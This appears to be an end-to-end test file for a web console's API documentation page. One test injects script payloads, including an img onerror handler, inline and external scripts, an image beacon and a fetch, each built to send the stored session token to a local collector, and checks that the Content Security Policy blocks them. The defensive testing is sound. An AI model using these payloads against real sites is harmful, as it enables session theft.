import { createServer } from 'node:http';
import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { API_TOKEN } from '../support/api-client.js';
import { sharedConsole, type SharedConsole } from './support/open-console.js';
import type { WatchedPage } from './support/watched-page.js';

let sidetrack: SharedConsole;
let watched: WatchedPage;
beforeAll(async () => {
  sidetrack = await sharedConsole();
  watched = await sidetrack.open('/live');
  await watched.page.getByRole('heading', { level: 1, name: 'Live' }).waitFor();
  await watched.page.goto(`${sidetrack.url}/docs`);
});
afterAll(() => watched.close());

describe('the page of the API documents, in the tab of a signed-in console,', () => {
  it('shows the routes and tries one, under a policy that lets nothing else run', async () => {
    const { page } = watched;
    await page.getByRole('button', { name: 'Authorize' }).click();
    await page.getByLabel('auth-bearer-value').fill(API_TOKEN);
    await page.getByLabel('Apply credentials').click();
    await page.getByRole('button', { name: 'Close', exact: true }).click();
    const route = page.locator('.opblock', { has: page.locator('[data-path="/v1/callback-urls"]') });
    await route.locator('.opblock-summary-control').click();
    await route.getByRole('button', { name: 'Try it out' }).click();
    await route.getByRole('button', { name: 'Execute' }).click();

    const answer = route.locator('.live-responses-table .response').first();
    await answer.waitFor();
    expect(await answer.locator('.response-col_status').first().textContent()).toContain('200');
  });

  it('runs no script that got into it, and lets nothing be sent elsewhere', async () => {
    const asked: string[] = [];
    const elsewhere = createServer((request, response) => {
      asked.push(request.url ?? '');
      response.setHeader('access-control-allow-origin', '*').end();
    }).listen(0, '127.0.0.1');
    await once(elsewhere, 'listening');
    const collector = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
    const { page, expectError } = watched;
    await page.getByRole('heading', { name: /Sidetrack/ }).waitFor();
    expectError(/Content Security Policy|Failed to load|violates|Refused/);

    const refused = page.evaluate((to) => {
      const violations = new Set<string>();
      const refusals = new Promise<string[]>((resolve) => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          violations.add(effectiveDirective);
          if (violations.size === 4) resolve([...violations].toSorted());
        });
      });
      const stolen = 'localStorage.getItem("sidetrack-session")';
      document.body.insertAdjacentHTML('beforeend', `<img src="x" onerror='fetch("${to}?" + ${stolen})'>`);
      const inline = document.createElement('script');
      inline.textContent = `fetch("${to}?" + ${stolen})`;
      const foreign = document.createElement('script');
      foreign.src = `${to}/script.js`;
      document.body.append(inline, foreign);
      const picture = new Image();
      picture.src = `${to}/picture?${localStorage.getItem('sidetrack-session')}`;
      void fetch(`${to}/fetch?${localStorage.getItem('sidetrack-session')}`).catch(() => undefined);
      return refusals;
    }, collector);

    expect(await refused).toEqual(['connect-src', 'img-src', 'script-src-attr', 'script-src-elem']);
    expect(asked).toEqual([]);
    elsewhere.close();
  });
});
